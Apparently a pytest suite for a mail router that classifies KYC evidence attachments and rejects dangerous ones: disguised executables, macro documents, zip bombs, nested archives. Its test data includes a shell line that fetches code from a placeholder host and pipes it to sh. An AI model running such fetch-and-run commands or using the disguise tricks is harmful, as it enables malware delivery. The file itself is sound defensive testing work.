"""Evidence and dangerous attachments (SPEC 4); every payload is built here in memory."""

from __future__ import annotations

import base64
import gzip
import io
import random
import re
import tarfile
import zipfile
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

import pytest

from router import config, parse
from router.config import Limits
from router.records import Attachment, EvidenceReport, ParsedMail, Rejection
from router.understand import filetypes
from router.understand.evidence import DANGEROUS, TOO_LARGE, assess, is_dangerous, sniff

LIMITS = Limits(
    max_message_bytes=26214400,
    max_attachment_bytes=1 << 20,
    max_parts=500,
    max_depth=20,
    max_archive_members=20,
    max_archive_uncompressed_bytes=10 << 20,
    max_archive_ratio=100,
    max_text_chars=200000,
)

# --- payload builders -----------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40  # ~10 KiB, over the tiny-image floor
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(range(256)) * 40
GIF = b"GIF89a" + bytes(range(256)) * 40
WEBP = b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(range(256)) * 40
BMP = b"BM" + (10000).to_bytes(4, "little") + b"\x00" * 8 + (40).to_bytes(4, "little") + b"\x01" * 9000
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x01" * 9000
HEIC = (24).to_bytes(4, "big") + b"ftypheic\x00\x00\x00\x00mif1heic" + b"\x01" * 9000
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"0" * 8000
CSV = "time,ip,device\n2024-05-01 10:00,203.0.113.5,iPhone\n".encode()
TEXT = "2024-05-01 10:00:00 ERROR withdrawal failed 提现失败\n".encode()
PE = b"MZ" + b"\x90\x00" * 29 + (0x80).to_bytes(4, "little") + b"\x00" * (0x80 - 0x40) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100
SEVENZ = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def ooxml(main: str, extra: dict[str, bytes] | None = None, content_type: str = "") -> bytes:
    parts = {
        "[Content_Types].xml": f'<Types><Override ContentType="{content_type}"/></Types>'.encode(),
        "_rels/.rels": b"<Relationships/>",
        main: b"<root/>",
    }
    return zip_of(parts | (extra or {}))


def ole_dir_entry(name: str, kind: int) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return encoded.ljust(64, b"\x00") + len(encoded).to_bytes(2, "little") + bytes([kind]) + b"\x00" * 61


def ole(*storages: str) -> bytes:
    """A minimal compound file: header sector, then one directory sector."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 22 + (9).to_bytes(2, "little")
    header = header.ljust(512, b"\x00")
    entries = ole_dir_entry("Root Entry", 5) + b"".join(ole_dir_entry(s, 1) for s in storages)
    entries += ole_dir_entry("WordDocument", 2)
    return header + entries.ljust(512, b"\x00") + b"\x00" * 512


def encrypted(zip_bytes: bytes) -> bytes:
    """Set the 'encrypted' flag in the local and central headers (zipfile cannot write encryption)."""
    data = bytearray(zip_bytes)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        while pos >= 0:
            data[pos + offset] |= 1
            pos = data.find(sig, pos + 4)
    return bytes(data)


def tar_gz(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def att(name: str, payload: bytes, **kw: object) -> Attachment:
    return Attachment(filename=name, content_type="application/octet-stream", payload=payload, **kw)  # type: ignore[arg-type]


def one(name: str, payload: bytes, body: str = "") -> EvidenceReport:
    return assess([att(name, payload)], body, LIMITS)


def assert_dangerous(report: EvidenceReport, *words: str) -> None:
    assert is_dangerous(report), report
    assert len(report.rejected) == 1
    reason = report.rejected[0].reason
    assert reason.startswith(DANGEROUS)
    for word in words:
        assert word in reason, reason
    assert report.present == ()


# --- sniff ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("payload", "label"),
    [
        (PDF, "pdf"),
        (PNG, "png"),
        (JPEG, "jpeg"),
        (GIF, "gif"),
        (WEBP, "webp"),
        (BMP, "bmp"),
        (TIFF, "tiff"),
        (HEIC, "heic"),
        (zip_of({"a.txt": b"hello"}), "zip"),
        (ooxml("xl/workbook.xml"), "xlsx"),
        (ooxml("word/document.xml"), "docx"),
        (ooxml("ppt/presentation.xml"), "pptx"),
        (ooxml("xl/workbook.xml", {"xl/vbaProject.bin": ole("VBA")}), "xlsm"),
        (ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA")}), "docm"),
        (ooxml("ppt/presentation.xml", {"ppt/vbaProject.bin": ole("VBA")}), "pptm"),
        (ooxml("word/document.xml", content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "docm"),
        (ole(), "ole"),
        (ole("Macros", "VBA"), "ole_macro"),
        (ole("_VBA_PROJECT_CUR"), "ole_macro"),
        (RAR, "rar"),
        (SEVENZ, "7z"),
        (gzip.compress(b"hello", mtime=0), "gzip"),
        (gzip.decompress(tar_gz({"a.txt": b"x"})), "tar"),
        (PE, "pe"),
        (ELF, "elf"),
        (MACHO, "macho"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 64, "macho"),
        (SCRIPT, "script"),
        (CSV, "text"),
        ("身份证正反面\n".encode("gb18030"), "text"),
        (b"", "unknown"),
        (bytes(range(32)) * 4, "unknown"),
    ],
)
def test_sniff(payload: bytes, label: str) -> None:
    assert sniff(payload) == label


def test_sniff_ole_text_mentioning_vba_is_not_a_macro() -> None:
    """'VBA' inside document text is not a directory entry."""
    doc = ole() + ("see the VBA guide" * 10).encode("utf-16-le")
    assert sniff(doc) == "ole"


def test_sniff_mz_prose_is_text() -> None:
    assert sniff(b"MZ transfer confirmation, thank you\n" * 3) == "text"


# --- dangerous by bytes ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "payload", "word"),
    [
        ("setup.bin", PE, "Windows executable"),
        ("tool", ELF, "Linux executable"),
        ("app", MACHO, "macOS executable"),
        ("run", SCRIPT, "script"),
    ],
)
def test_executables_by_bytes(name: str, payload: bytes, word: str) -> None:
    assert_dangerous(one(name, payload), word)


@pytest.mark.parametrize(
    ("name", "payload"),
    [("statement.pdf", PE), ("passport.jpg", ELF), ("id.png", SCRIPT), ("流水.xlsx", MACHO)],
)
def test_harmless_name_over_executable_bytes(name: str, payload: bytes) -> None:
    ext = name.rsplit(".", 1)[1]
    assert_dangerous(one(name, payload, "attached my passport"), f"disguised as .{ext}")


@pytest.mark.parametrize("ext", "exe scr bat cmd com pif js jse vbs vbe wsf ps1 jar msi lnk hta".split())
def test_dangerous_extensions_by_name(ext: str) -> None:
    assert_dangerous(one(f"readme.{ext}", b"harmless looking text\n"), f".{ext}")


def test_dangerous_extension_case_and_trailing_dots() -> None:
    assert_dangerous(one("Invoice.EXE. ", b"text\n"), ".exe")


def test_double_extension() -> None:
    assert_dangerous(one("invoice.pdf.exe", PDF), "double extension .pdf.exe")


def test_direction_override_in_name() -> None:
    assert_dangerous(one("invoice\u202egpj.exe", JPEG), "hides")


def test_docm_and_xlsm_by_name() -> None:
    doc = ooxml("word/document.xml")
    assert_dangerous(one("contract.docm", doc), "macro-enabled", ".docm")
    assert_dangerous(one("流水.xlsm", ooxml("xl/workbook.xml")), "macro-enabled", ".xlsm")


def test_docm_and_xlsm_by_content() -> None:
    docm = ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA", "_VBA_PROJECT")})
    xlsm = ooxml("xl/workbook.xml", {"xl/vbaProject.bin": ole("VBA")})
    assert_dangerous(one("contract.docx", docm), "macro-enabled")
    assert_dangerous(one("bank_statement.xlsx", xlsm), "macro-enabled")
    assert_dangerous(one("statement.pdf", xlsm), "macro-enabled")


def test_xlsx_with_excel4_macro_sheet() -> None:
    xlm = ooxml("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"<xm/>"})
    assert_dangerous(one("流水.xlsx", xlm), "macro-enabled")


def test_ole_with_macros() -> None:
    assert_dangerous(one("salary.doc", ole("Macros", "VBA")), "macro-enabled")
    assert_dangerous(one("report.xls", ole("_VBA_PROJECT_CUR", "VBA")), "macro-enabled")


def test_ole_without_macros_is_not_dangerous_nor_evidence() -> None:
    report = one("contract.doc", ole())
    assert report == EvidenceReport(present=(), rejected=(), reasons=report.reasons)
    assert not is_dangerous(report)


# --- archives -------------------------------------------------------------


def test_zip_containing_exe() -> None:
    assert_dangerous(one("documents.zip", zip_of({"passport.jpg": JPEG, "setup.exe": PE})), "setup.exe")


def test_zip_member_with_harmless_name_but_pe_bytes() -> None:
    assert_dangerous(one("docs.zip", zip_of({"readme.txt": PE})), "Windows executable", "readme.txt")


def test_zip_containing_macro_document() -> None:
    docm = ooxml("word/document.xml", {"word/vbaProject.bin": ole("VBA")})
    assert_dangerous(one("docs.zip", zip_of({"contract.docx": docm})), "macro-enabled")


def test_encrypted_zip() -> None:
    assert_dangerous(one("statements.zip", encrypted(zip_of({"a.pdf": PDF}))), "encrypted")


def test_zip_bomb_by_ratio() -> None:
    bomb = zip_of({"zeros.txt": b"\x00" * (4 << 20)})
    assert len(bomb) < 10_000
    assert_dangerous(one("bomb.zip", bomb), "zip bomb", "limit 100:1")


def test_small_highly_compressible_zip_is_fine() -> None:
    """Ratio is only judged above 1 MiB: a short repetitive CSV is not a bomb."""
    report = one("records.zip", zip_of({"records.csv": b"0,0,0\n" * 20000}))
    assert report.rejected == ()


def test_zip_over_unpacked_size() -> None:
    big = zip_of({f"p{i}.bin": bytes(range(256)) * 4096 * 3 for i in range(4)}, zipfile.ZIP_STORED)  # 4 x 3 MiB
    small = Limits(**{**LIMITS.__dict__, "max_attachment_bytes": 1 << 25})
    report = assess([att("big.zip", big)], "", small)
    assert is_dangerous(report)
    assert "too large when unpacked" in report.rejected[0].reason


def test_zip_with_too_many_members() -> None:
    many = zip_of({f"f{i}.txt": b"x" for i in range(LIMITS.max_archive_members + 5)})
    assert_dangerous(one("many.zip", many), "too many members", "over 20")


def test_nested_zip_with_exe() -> None:
    inner = zip_of({"tool.exe": PE})
    assert_dangerous(one("outer.zip", zip_of({"inner.zip": inner})), "inner.zip/tool.exe")


def test_nesting_depth() -> None:
    level3 = zip_of({"l3.zip": zip_of({"ok.txt": b"fine"})})
    ok = zip_of({"l2.zip": level3})
    assert not is_dangerous(one("l1.zip", ok))
    too_deep = zip_of({"l1.zip": ok})
    assert_dangerous(one("l0.zip", too_deep), "nested deeper than 3")


def test_corrupt_zip() -> None:
    assert_dangerous(one("statement.zip", b"PK\x03\x04" + b"\x00" * 60), "cannot be opened")


@pytest.mark.parametrize(("name", "payload"), [("records.rar", RAR), ("records.7z", SEVENZ), ("x.pdf", RAR)])
def test_rar_and_7z_cannot_be_inspected(name: str, payload: bytes) -> None:
    assert_dangerous(one(name, payload), "archive cannot be inspected")


def test_tar_gz_with_script() -> None:
    assert_dangerous(one("logs.tar.gz", tar_gz({"logs/error.log": TEXT, "logs/fix": SCRIPT})), "script", "logs/fix")


def test_tar_gz_harmless() -> None:
    report = one("logs.tgz", tar_gz({"logs/error.log": TEXT}))
    assert report.rejected == ()


def test_gzip_bomb() -> None:
    assert_dangerous(one("log.gz", gzip.compress(b"\x00" * (4 << 20), mtime=0)), "zip bomb")


def test_harmless_zip_is_not_rejected() -> None:
    report = one("records.zip", zip_of({"records.csv": CSV, "passport.jpg": JPEG}))
    assert report.rejected == ()
    assert not is_dangerous(report)


# --- size -----------------------------------------------------------------


def test_oversize_attachment_rejected_but_not_dangerous() -> None:
    big = b"%PDF-1.7\n" + b"0" * (LIMITS.max_attachment_bytes + 1)
    report = one("passport.pdf", big)
    assert report.present == ()
    assert len(report.rejected) == 1
    assert report.rejected[0].filename == "passport.pdf"
    assert report.rejected[0].reason.startswith(TOO_LARGE)
    assert "1.0 MiB per-attachment limit" in report.rejected[0].reason
    assert not is_dangerous(report)


def test_danger_wins_over_size() -> None:
    big = PE + b"\x00" * (LIMITS.max_attachment_bytes + 1)
    assert_dangerous(one("big.exe", big))


def test_is_dangerous_reads_the_prefix() -> None:
    assert is_dangerous(EvidenceReport((), (Rejection("a", "too large: x"), Rejection("b", "dangerous: y"))))
    assert not is_dangerous(EvidenceReport((), (Rejection("a", "too large: x"),)))
    assert not is_dangerous(EvidenceReport((), ()))


# --- evidence from names --------------------------------------------------


@pytest.mark.parametrize(
    ("name", "payload", "kind"),
    [
        ("passport.jpg", JPEG, "identity"),
        ("身份证正面.png", PNG, "identity"),
        ("護照.pdf", PDF, "identity"),
        ("手持照片.jpg", JPEG, "identity"),
        ("selfie_with_id.heic", HEIC, "identity"),
        ("Driving-Licence.pdf", PDF, "identity"),
        ("流水.xlsx", ooxml("xl/workbook.xml"), "transactions"),
        ("对账单.pdf", PDF, "transactions"),
        ("交易记录.png", PNG, "transactions"),
        ("txid screenshot.png", PNG, "transactions"),
        ("bank_statement.pdf", PDF, "transactions"),
        ("login_history.csv", CSV, "activity_log"),
        ("登录记录.png", PNG, "activity_log"),
        ("登入紀錄.pdf", PDF, "activity_log"),
        ("error.log", TEXT, "activity_log"),
        ("app.log", TEXT, "activity_log"),
        ("工资单.pdf", PDF, "source_of_funds"),
        ("工资流水.xlsx", ooxml("xl/workbook.xml"), "source_of_funds"),
        ("salary_statement.pdf", PDF, "source_of_funds"),
        ("合同.jpg", JPEG, "source_of_funds"),
        ("完税证明.pdf", PDF, "source_of_funds"),
    ],
)
def test_kind_from_file_name(name: str, payload: bytes, kind: str) -> None:
    report = one(name, payload)
    assert report.present == (kind,), report
    assert report.rejected == ()
    assert any(name in r and "file name" in r for r in report.reasons)


def test_bank_statement_is_source_of_funds_when_the_mail_talks_about_it() -> None:
    body = "Please find the bank statement attached as proof of the source of funds."
    report = one("bank_statement.pdf", PDF, body)
    assert report.present == ("source_of_funds",)
    assert any("source of funds" in r for r in report.reasons)
    zh = one("银行流水.pdf", PDF, "按要求提供资金来源证明。")
    assert zh.present == ("source_of_funds",)


def test_harmless_mismatch_is_fine() -> None:
    report = one("passport.jpg", PNG)
    assert report.present == ("identity",)
    assert report.rejected == ()


def test_kind_needs_an_acceptable_type() -> None:
    assert one("passport.csv", CSV).present == ()  # identity is image or PDF
    assert one("passport.docx", ooxml("word/document.xml")).present == ()
    assert one("statement.pdf", b"just some text pretending\n").present == ()  # text with a .pdf name


def test_present_is_in_canonical_order() -> None:
    report = assess(
        [
            att("合同.pdf", PDF),
            att("login_history.csv", CSV),
            att("passport.jpg", JPEG),
            att("流水.xlsx", ooxml("xl/workbook.xml")),
        ],
        "",
        LIMITS,
    )
    assert report.present == ("identity", "transactions", "activity_log", "source_of_funds")


# --- evidence from the body -----------------------------------------------


def test_english_body_mention_explains_unnamed_image() -> None:
    report = one("IMG_2031.jpg", JPEG, "Hello, I attached my passport and a selfie. Thanks")
    assert report.present == ("identity",)
    assert any("body" in r and "IMG_2031.jpg" in r for r in report.reasons)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ("附件是身份证正反面和手持照片", "identity"),
        ("附件是身份證正反面和手持照片。", "identity"),
        ("截图是充值记录，请帮忙查一下", "transactions"),
        ("please find the bank statement attached", "transactions"),
        ("Attached is a screenshot of my login history.", "activity_log"),
        ("附上工资单照片", "source_of_funds"),
    ],
)
def test_body_mentions(body: str, kind: str) -> None:
    assert one("IMG_2031.jpg", JPEG, body).present == (kind,)


def test_body_mention_without_attachment_is_not_counted() -> None:
    assert assess([], "I will send my ID later, attached passport soon", LIMITS).present == ()
    assert assess([], "附件是身份证正反面", LIMITS).present == ()


def test_body_mention_only_for_unexplained_attachments() -> None:
    """Names already explain login_history.csv; the body's 'passport' has nothing left to describe."""
    report = one("login_history.csv", CSV, "attached my passport")
    assert report.present == ("activity_log",)


def test_body_mention_needs_a_compatible_type() -> None:
    assert one("data.csv", CSV, "attached my passport").present == ()  # identity is not CSV
    assert one("data.csv", CSV, "attached my login history").present == ("activity_log",)


def test_negated_body_mentions_are_ignored() -> None:
    assert one("IMG_1.jpg", JPEG, "I don't have my passport, attached a screenshot of the app").present == ()
    assert one("IMG_1.jpg", JPEG, "没有护照，附件是截图").present == ()
    assert one("IMG_1.jpg", JPEG, "没有护照，附件是驾照照片").present == ("identity",)


def test_body_mention_needs_an_attachment_cue() -> None:
    assert one("IMG_1.jpg", JPEG, "My passport expires next year.").present == ()


def test_smart_contract_is_not_a_contract() -> None:
    assert one("IMG_1.jpg", JPEG, "screenshot attached: I sent USDT to the smart contract").present == ()


# --- decorations ----------------------------------------------------------


def test_inline_content_id_image_is_ignored() -> None:
    sig = att("image001.png", PNG, inline=True, content_id="<image001.png@01D9>")
    report = assess([sig], "Attached my passport. Regards", LIMITS)
    assert report.present == ()
    assert report.rejected == ()
    assert any("not evidence" in r for r in report.reasons)


@pytest.mark.parametrize(("name", "payload"), [("image001.png", PNG), ("Outlook-logo.jpg", JPEG), ("IMG_9.png", PNG[:2000])])
def test_signature_names_and_tiny_images_are_ignored(name: str, payload: bytes) -> None:
    assert one(name, payload, "attached my passport").present == ()


def test_inline_image_still_checked_for_danger() -> None:
    report = assess([att("image001.png", PE, inline=True, content_id="<x>")], "", LIMITS)
    assert is_dangerous(report)


def test_mixed_message() -> None:
    report = assess(
        [att("passport.jpg", JPEG), att("tool.exe", PE), att("huge.pdf", b"%PDF-1.7\n" + b"0" * (2 << 20))],
        "",
        LIMITS,
    )
    assert report.present == ("identity",)
    assert [r.filename for r in report.rejected] == ["tool.exe", "huge.pdf"]
    assert is_dangerous(report)


# --- every mail client (issue 12) -------------------------------------------
# Whole messages built with the stdlib email package the way each client
# structures them, parsed by router.parse and assessed as the pipeline does.

MAIL_LIMITS = config.load(search=False).limits  # the shipped limits: 15 MiB per attachment


def blob(head: bytes, size: int, seed: int) -> bytes:
    """A file of `size` bytes that starts like `head`; random bytes, so it does not compress (like a photo)."""
    return head + random.Random(seed).randbytes(size - len(head))


def HEIC_PHOTO(seed: int) -> bytes:
    """An iPhone photo: HEIC, 1-3 MB."""
    return blob(HEIC[:32], 1_400_000 + seed, seed)


def JPEG_PHOTO(seed: int) -> bytes:
    return blob(JPEG[:16], 900_000 + seed, seed)


SCREENSHOT = blob(PNG[:16], 180_000, 7)  # a phone screenshot pasted into a body
LOGO = blob(PNG[:16], 9_000, 8)  # a signature logo


def headers(msg: MIMEBase, subject: str = "Re: [KYC] ID documents") -> None:
    msg["From"] = "Customer <customer@example.com>"
    msg["To"] = "support@exchange.example"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<{random.Random(subject).randrange(1 << 40)}@client.example>"


def parsed(msg: MIMEBase) -> ParsedMail:
    mail = parse.parse(msg.as_bytes(), MAIL_LIMITS)
    assert mail.problem is None, mail.problem
    return mail


def assessed(msg: MIMEBase) -> EvidenceReport:
    mail = parsed(msg)
    return assess(mail.attachments, mail.new_text, MAIL_LIMITS)


def inline_image(data: bytes, subtype: str, name: str, cid: str) -> MIMEImage:
    part = MIMEImage(data, subtype)
    part.add_header("Content-Disposition", "inline", filename=name)
    part.add_header("Content-Id", f"<{cid}>")
    return part


def iphone_mail(body: str, photos: list[tuple[str, bytes]]) -> MIMEMultipart:
    """iOS Mail: multipart/mixed of text/plain and inline image/heic parts with Content-Ids, no cid: in any HTML."""
    msg = MIMEMultipart("mixed")
    msg.attach(MIMEText(body, "plain", "utf-8"))
    for i, (name, data) in enumerate(photos):
        msg.attach(inline_image(data, "heic", name, f"{i}A1B2C3D-4E5F-6789-ABCD-EF0123456789"))
        msg.attach(MIMEText("\n", "plain", "utf-8"))
    msg.attach(MIMEText("\nSent from my iPhone", "plain", "utf-8"))
    headers(msg)
    return msg


def test_iphone_inline_heic_photos_with_content_id_are_evidence() -> None:
    msg = iphone_mail("Hello, here are the front and back of my ID card.", [("IMG_4501.HEIC", HEIC_PHOTO(1)), ("IMG_4502.HEIC", HEIC_PHOTO(2))])
    mail = parsed(msg)
    assert [(a.inline, a.content_id is not None, a.referenced) for a in mail.attachments] == [(True, True, False)] * 2
    report = assess(mail.attachments, mail.new_text, MAIL_LIMITS)
    assert report.present == ("identity",)
    assert "IMG_4501.HEIC, IMG_4502.HEIC" in " ".join(report.reasons)


def test_iphone_taiwan_spelling_in_the_body() -> None:
    msg = iphone_mail("您好，附上我的身分證正反面照片，謝謝。", [("IMG_0001.HEIC", HEIC_PHOTO(3))])
    assert assessed(msg).present == ("identity",)


def test_mac_mail_html_showing_the_photo_by_cid_still_counts_it() -> None:
    """Mac Mail's HTML alternative shows each photo through cid:, but a 1 MB photo is no logo."""
    related = MIMEMultipart("related")
    related.attach(MIMEText('<p>Here is my passport:</p><img src="cid:F00D-1" width="300">', "html", "utf-8"))
    related.attach(inline_image(JPEG_PHOTO(4), "jpeg", "IMG_7788.jpeg", "F00D-1"))
    alt = MIMEMultipart("alternative")
    alt.attach(MIMEText("Here is my passport:\n", "plain", "utf-8"))
    alt.attach(related)
    headers(alt)
    mail = parsed(alt)
    assert [a.referenced for a in mail.attachments] == [True]
    assert assess(mail.attachments, mail.new_text, MAIL_LIMITS).present == ("identity",)


def gmail_mail(body_html: str, images: list[tuple[str, bytes, str]]) -> MIMEMultipart:
    """Gmail: multipart/related {multipart/alternative {plain, html with cid:}, inline images}."""
    alt = MIMEMultipart("alternative")
    alt.attach(MIMEText(html_to_plain(body_html), "plain", "utf-8"))
    alt.attach(MIMEText(f'<div dir="ltr">{body_html}</div>', "html", "utf-8"))
    related = MIMEMultipart("related")
    related.attach(alt)
    for name, data, cid in images:
        related.attach(inline_image(data, "png", name, cid))
    headers(related, "withdrawal not received")
    return related


def html_to_plain(html: str) -> str:
    return re.sub(r"<img[^>]*>", "[image: image.png]", re.sub(r"</?(?:div|br|p)[^>]*>", "\n", html))


def test_gmail_pasted_screenshot_counts() -> None:
    msg = gmail_mail(
        'Hi, my USDT withdrawal has not arrived. Here is a screenshot of the withdrawal record:<br>'
        '<img src="cid:ii_lx9f2k3a0" alt="image.png" width="562"><br>Thanks',
        [("image.png", SCREENSHOT, "ii_lx9f2k3a0")],
    )
    mail = parsed(msg)
    assert [(a.filename, a.referenced) for a in mail.attachments] == [("image.png", True)]
    report = assess(mail.attachments, mail.new_text, MAIL_LIMITS)
    assert report.present == ("transactions",)


def test_gmail_signature_logo_shown_by_cid_is_decoration() -> None:
    msg = gmail_mail(
        'I attached my passport yesterday, please check.<br>--<br><img src="cid:logo_acme">ACME Ltd',
        [("image.png", LOGO, "logo_acme")],
    )
    report = assessed(msg)
    assert report.present == ()
    assert any("inline/signature image" in r for r in report.reasons)


def test_small_inline_image_not_shown_by_html_and_not_named_like_a_logo_counts() -> None:
    """iPhone sends small cropped screenshots too: inline + Content-Id alone is not decoration."""
    msg = iphone_mail("Screenshot of the deposit record attached", [("IMG_0002.PNG", blob(PNG[:16], 30_000, 9))])
    assert assessed(msg).present == ("transactions",)


def tnef(files: dict[str, bytes]) -> bytes:
    """A minimal Outlook winmail.dat (MS-OXTNEF): signature, key, then one attRenddata/attTitle/attData per file."""

    def attribute(level: int, ident: int, kind: int, data: bytes) -> bytes:
        checksum = sum(data) & 0xFFFF
        return bytes([level]) + ident.to_bytes(2, "little") + kind.to_bytes(2, "little") + len(data).to_bytes(4, "little") + data + checksum.to_bytes(2, "little")

    out = (0x223E9F78).to_bytes(4, "little") + (0x1234).to_bytes(2, "little")
    out += attribute(1, 0x9006, 0x0008, (0x00010000).to_bytes(4, "little"))  # attTnefVersion
    for name, data in files.items():
        out += attribute(2, 0x9002, 0x0006, b"\x01\x00" + b"\x00" * 12)  # attAttachRendData starts an attachment
        out += attribute(2, 0x8010, 0x0001, name.encode() + b"\x00")  # attAttachTitle
        out += attribute(2, 0x800F, 0x0006, data)  # attAttachData
    return out


def outlook_mail(files: dict[str, bytes], body: str = "Please see the attached documents.") -> MIMEMultipart:
    msg = MIMEMultipart("mixed")
    msg.attach(MIMEText(body, "plain", "utf-8"))
    part = MIMEApplication(tnef(files), "ms-tnef", name="winmail.dat")
    part.add_header("Content-Disposition", "attachment", filename="winmail.dat")
    msg.attach(part)
    headers(msg)
    return msg


def test_outlook_winmail_dat_files_count() -> None:
    msg = outlook_mail({"passport_scan.pdf": blob(PDF[:60], 400_000, 10), "bank_statement_march.pdf": blob(PDF[:60], 250_000, 11)})
    report = assessed(msg)
    assert report.rejected == ()
    assert report.present == ("identity", "transactions")
    assert "winmail.dat/passport_scan.pdf: identity from the file name (pdf)" in report.reasons


def test_outlook_winmail_dat_with_an_executable_is_dangerous() -> None:
    report = assessed(outlook_mail({"invoice.pdf": PDF, "invoice.pdf.exe": PE}))
    assert is_dangerous(report)
    assert "invoice.pdf.exe" in report.rejected[0].reason


def test_winmail_dat_sniffed_by_bytes() -> None:
    assert sniff(tnef({"a.pdf": PDF})) == "tnef"
    assert [(m.path, m.label, m.size) for m in filetypes.members("winmail.dat", tnef({"a.pdf": PDF, "b.jpg": JPEG}), MAIL_LIMITS)] == [
        ("a.pdf", "pdf", len(PDF)),
        ("b.jpg", "jpeg", len(JPEG)),
    ]


def test_spreadsheet_inside_a_zip_counts_as_xlsx() -> None:
    sheet = ooxml("xl/workbook.xml")
    report = one("records.zip", zip_of({"deposit_history.xlsx": sheet}))
    assert report.present == ("transactions",)
    assert "records.zip/deposit_history.xlsx: transactions from the file name (xlsx)" in report.reasons


def test_qq_mail_gb18030_file_name() -> None:
    """QQ Mail: multipart/mixed {multipart/alternative {plain, html}, attachment named in RFC 2047 GB18030}."""
    alt = MIMEMultipart("alternative")
    alt.attach(MIMEText("您好，充值一直没到账，截图如下。", "plain", "gb18030"))
    alt.attach(MIMEText("<div>您好，充值一直没到账，截图如下。</div>", "html", "gb18030"))
    msg = MIMEMultipart("mixed")
    msg.attach(alt)
    part = MIMEApplication(blob(JPEG[:16], 350_000, 12), "octet-stream")
    encoded = "=?gb18030?B?" + base64.b64encode("充值记录.jpg".encode("gb18030")).decode() + "?="
    part.add_header("Content-Disposition", "attachment", filename=encoded)
    part.set_param("name", encoded)
    msg.attach(part)
    headers(msg, "充值未到账")
    mail = parsed(msg)
    assert [a.filename for a in mail.attachments] == ["充值记录.jpg"]
    assert assess(mail.attachments, mail.new_text, MAIL_LIMITS).present == ("transactions",)


def test_forwarded_message_with_a_pdf_inside() -> None:
    inner = MIMEMultipart("mixed")
    inner.attach(MIMEText("Dear customer, your salary for March is attached.", "plain", "utf-8"))
    pdf = MIMEApplication(blob(PDF[:60], 200_000, 13), "pdf")
    pdf.add_header("Content-Disposition", "attachment", filename="salary_slip_march.pdf")
    inner.attach(pdf)
    headers(inner, "Your payslip")
    msg = MIMEMultipart("mixed")
    msg.attach(MIMEText("Forwarding my employer's mail as proof of the source of funds.", "plain", "utf-8"))
    forwarded = MIMEMessage(inner)
    forwarded.add_header("Content-Disposition", "attachment", filename="Your payslip.eml")
    msg.attach(forwarded)
    headers(msg, "[SOF] source of funds")
    report = assessed(msg)
    assert report.present == ("source_of_funds",)
    assert any("salary_slip_march.pdf" in r for r in report.reasons)


def test_zip_with_two_jpegs_named_by_the_body() -> None:
    archive = zip_of({"IMG_1001.JPG": JPEG_PHOTO(14), "IMG_1002.JPG": JPEG_PHOTO(15)}, zipfile.ZIP_STORED)
    msg = MIMEMultipart("mixed")
    msg.attach(MIMEText("I attached a zip with the front and back of my passport.", "plain", "utf-8"))
    part = MIMEApplication(archive, "zip")
    part.add_header("Content-Disposition", "attachment", filename="documents.zip")
    msg.attach(part)
    headers(msg)
    report = assessed(msg)
    assert report.rejected == ()
    assert report.present == ("identity",)
    assert "identity from the body ('passport') for documents.zip/IMG_1001.JPG, documents.zip/IMG_1002.JPG" in report.reasons


def test_zip_member_names_count_and_nested_zip_is_followed() -> None:
    inner = zip_of({"身分證正面.jpg": JPEG})
    report = one("kyc.zip", zip_of({"tx/交易紀錄.csv": CSV, "inner.zip": inner}))
    assert report.rejected == ()
    assert report.present == ("identity", "transactions")
    assert "kyc.zip/inner.zip/身分證正面.jpg: identity from the file name (jpeg)" in report.reasons


def test_zip_members_still_dangerous() -> None:
    assert_dangerous(one("photos.zip", zip_of({"IMG_1.jpg": JPEG, "IMG_2.jpg.scr": PE})), "IMG_2.jpg.scr")


def test_inline_pdf_with_content_id_counts() -> None:
    pdf = att("statement.pdf", PDF, inline=True, content_id="<pdf1@mac>")
    assert assess([pdf], "", LIMITS).present == ("transactions",)


@pytest.mark.parametrize("payload", [HEIC, WEBP, TIFF])
def test_heic_webp_tiff_are_images(payload: bytes) -> None:
    assert one("IMG_2001", payload, "photo of my passport attached").present == ("identity",)


def test_named_evidence_file_is_never_decoration() -> None:
    logo_sized = att("passport.jpg", JPEG[:3000], inline=True, content_id="<p@x>", referenced=True)
    assert assess([logo_sized], "", LIMITS).present == ("identity",)


def test_screenshot_name_is_never_decoration() -> None:
    shot = att("Screenshot 2026-05-01 at 10.00.00.png", PNG, inline=True, content_id="<s@x>", referenced=True)
